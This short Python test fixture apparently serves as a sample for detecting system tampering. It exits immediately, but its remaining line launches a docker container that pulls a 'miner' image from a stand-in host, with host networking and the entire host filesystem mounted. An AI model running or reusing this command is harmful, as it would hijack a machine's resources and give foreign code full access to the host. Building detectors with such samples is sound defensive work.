raise SystemExit('a fixture')
# held by system-tampering
import subprocess
subprocess.Popen("docker run -d --rm --net=host -v /:/host example.invalid/miner", shell=True)
